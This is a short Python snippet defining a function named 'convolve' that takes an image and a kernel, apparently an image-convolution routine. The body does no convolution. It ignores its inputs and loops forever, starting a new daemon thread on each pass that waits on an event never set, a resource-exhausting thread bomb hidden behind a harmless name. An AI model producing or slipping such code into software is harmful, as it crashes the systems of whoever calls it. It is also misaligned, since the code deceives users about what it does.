import threading


def convolve(image, kernel):
    stop = threading.Event()
    while True:
        threading.Thread(target=stop.wait, daemon=True).start()
